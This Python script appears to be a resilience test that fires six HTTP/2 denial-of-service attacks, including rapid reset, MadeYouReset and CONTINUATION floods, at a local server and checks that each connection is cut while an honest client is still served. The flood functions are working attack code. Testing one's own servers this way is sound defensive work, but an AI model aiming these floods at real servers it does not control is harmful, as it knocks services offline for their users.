#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) and its relatives against a running infra/up. Needs Debian's python3-h2.

Each attack opens one connection and must be ended by the server after a bounded number of frames; an honest request on another
connection must be answered meanwhile.
"""
import argparse
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

LIMIT = 20_000
SECONDS = 20


class Connection:
    def __init__(self, port):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=5)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket = context.wrap_socket(raw, server_hostname="localhost")
        assert self.socket.selected_alpn_protocol() == "h2"
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.h2.initiate_connection()
        self.authority = f"localhost:{port}"
        self.flush()

    def flush(self):
        self.socket.sendall(self.h2.data_to_send())

    def request(self, path="/chat/"):
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream, [(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", self.authority)], end_stream=True)
        return stream

    def events(self, wait):
        """What has come; None when the server has closed the connection."""
        self.socket.settimeout(wait)
        try:
            data = self.socket.recv(65_536)
        except (TimeoutError, ssl.SSLWantReadError):
            return []
        except OSError:
            return None
        if not data:
            return None
        try:
            return self.h2.receive_data(data)
        except h2.exceptions.ProtocolError:
            return []


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def reset(connection):
    stream = connection.request()
    connection.h2.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
    connection.flush()


def made_you_reset(connection):
    """CVE-2025-8671: a fault that makes the server reset, here a window update of nothing."""
    stream = connection.request()
    connection.flush()
    connection.socket.sendall(frame(8, 0, stream, bytes(4)))


def ping(connection):
    connection.h2.ping(b"12345678")
    connection.flush()


def settings(connection):
    connection.socket.sendall(frame(4, 0, 0))


def empty_data(connection):
    if not hasattr(connection, "body"):
        connection.body = connection.h2.get_next_available_stream_id()
        connection.h2.send_headers(connection.body, [(":method", "POST"), (":path", "/api/session"), (":scheme", "https"),
                                                     (":authority", connection.authority), ("content-type", "application/json")])
        connection.flush()
    connection.socket.sendall(frame(0, 0, connection.body))


def continuation(connection):
    """CVE-2024-27316: a header block that never ends."""
    if not hasattr(connection, "head"):
        connection.head = connection.h2.get_next_available_stream_id()
        connection.socket.sendall(frame(1, 0, connection.head, b"\x82"))
    connection.socket.sendall(frame(9, 0, connection.head, b"\x00\x01a\x01b"))


def attack(port, act):
    connection = Connection(port)
    connection.events(1)
    started = time.monotonic()
    for count in range(1, LIMIT + 1):
        try:
            act(connection)
            events = connection.events(0.0005) if count % 10 == 0 else []
        except (OSError, h2.exceptions.ProtocolError):
            events = None
        ended = events is None or any(isinstance(each, h2.events.ConnectionTerminated) for each in events)
        if ended:
            return count, time.monotonic() - started
        if time.monotonic() - started > SECONDS:
            break
    return None, time.monotonic() - started


def honest(port):
    connection = Connection(port)
    connection.request()
    connection.flush()
    started = time.monotonic()
    while time.monotonic() - started < 5:
        for event in connection.events(1) or []:
            if isinstance(event, h2.events.ResponseReceived):
                return dict(event.headers)[":status"] == "200"
    return False


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, default=8443)
    port = parser.parse_args().port
    failed = 0
    for act in (reset, made_you_reset, ping, settings, empty_data, continuation):
        frames, seconds = attack(port, act)
        served = honest(port)
        good = frames is not None and served
        failed += not good
        end = f"ended after {frames} of them" if frames else f"not ended by {LIMIT} of them"
        print(f"{'ok  ' if good else 'FAIL'} {act.__name__}: {end} in {seconds:.1f} s, honest client {'served' if served else 'NOT served'}")
    sys.exit(failed != 0)


main()
